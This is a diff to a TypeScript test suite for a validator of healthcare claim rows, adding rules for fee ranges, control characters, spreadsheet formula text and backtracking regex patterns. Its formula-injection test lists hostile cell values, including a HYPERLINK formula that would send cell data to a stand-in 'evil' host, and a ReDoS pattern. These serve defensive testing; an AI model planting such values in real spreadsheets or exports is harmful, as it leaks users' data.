@@ -48,6 +48,13 @@ describe('buildRuleSet', () => {
       npi_format: 'error',
       npi_check_digit: 'warn',
       claim_consistent: 'error',
+      money_range: 'error',
+      control_characters: 'error',
+      formula_text: 'error',
+      column_count: 'error',
+      json_syntax: 'error',
+      json_row: 'error',
+      claim_rejected: 'error',
     });
   });
 
@@ -80,7 +87,18 @@ describe('buildRuleSet', () => {
 
   it('lists which built-ins are configurable', () => {
     const fixed = listRules(DEFAULTS).filter((r) => !r.configurable).map((r) => r.name);
-    expect(fixed).toEqual(['required', 'money_format', 'date_format', 'claim_consistent']);
+    expect(fixed).toEqual([
+      'required',
+      'money_format',
+      'date_format',
+      'claim_consistent',
+      'money_range',
+      'control_characters',
+      'column_count',
+      'json_syntax',
+      'json_row',
+      'claim_rejected',
+    ]);
     expect(listRules(DEFAULTS).every((r) => r.builtin && r.description.length > 0)).toBe(true);
   });
 
@@ -329,5 +347,46 @@ describe('validateRow', () => {
       expect(rulesOf(row(), rules)).toEqual(['has_claim']);
       expect(rulesOf(row({ claim_number: 'C1' }), rules)).toEqual([]);
     });
+  });
+});
+
+describe('rules against unsafe values', () => {
+  it('money_range: rejects a fee beyond $1,000,000.00 even when it parses exactly', () => {
+    const result = validateRow(row({ provider_fees: '$90071992547409.91', allowed_fees: '$1,000,000.00' }), DEFAULTS, TODAY);
+    expect(result.line).toBeNull();
+    expect(result.issues).toEqual([
+      expect.objectContaining({ rule: 'money_range', field: 'provider_fees', message: 'beyond ±1000000.00' }),
+    ]);
+    expect(errorFor({ builtin: { money_range: 'off' } })).toMatch(/money_range" cannot be changed/);
+  });
+
+  it('control_characters: names the field holding a NUL or DEL, tab and line breaks are data', () => {
+    const result = validateRow(row({ submitted_procedure: 'D0\u0000 80', subscriber_number: '37\u007f' }), DEFAULTS, TODAY);
+    expect(result.line).toBeNull();
+    expect(result.issues.filter((i) => i.rule === 'control_characters')).toEqual([
+      expect.objectContaining({ field: 'submitted_procedure', value: 'D0\u0000 80', message: 'contains control character U+0000' }),
+      expect.objectContaining({ field: 'subscriber_number', message: 'contains control character U+007F' }),
+    ]);
+    expect(rulesOf(row({ line_number: 'line\t1\r\n' }))).toEqual([]);
+  });
+
+  it.each(['=HYPERLINK("http://evil/?x="&A1)', '@SUM(1+1)', '=1+1', '+1', '-x', '\t1', '\r1', ' =1'])(
+    'formula_text: rejects %j in a free-text field',
+    (value) => {
+      for (const field of ['plan_group_number', 'subscriber_number', 'claim_number', 'line_number'] as const) {
+        expect(rulesOf(row({ [field]: value }))).toContain('formula_text');
+      }
+    },
+  );
+
+  it('formula_text: accepts ordinary values and can be turned off', () => {
+    expect(rulesOf(row({ claim_number: '-12', line_number: '1', plan_group_number: 'GRP=1' }))).toEqual([]);
+    const rules = rulesFrom({ builtin: { formula_text: 'off' } });
+    expect(validateRow(row({ plan_group_number: '=1+1' }), rules, TODAY).line?.plan_group_number).toBe('=1+1');
+  });
+
+  it('refuses a custom pattern with catastrophic backtracking, naming the rule', () => {
+    const message = errorFor({ custom: [{ name: 'slow', field: 'claim_number', pattern: '(a+)+$', message: 'm' }] });
+    expect(message).toMatch(/rule "slow": pattern may backtrack catastrophically/);
   });
 });
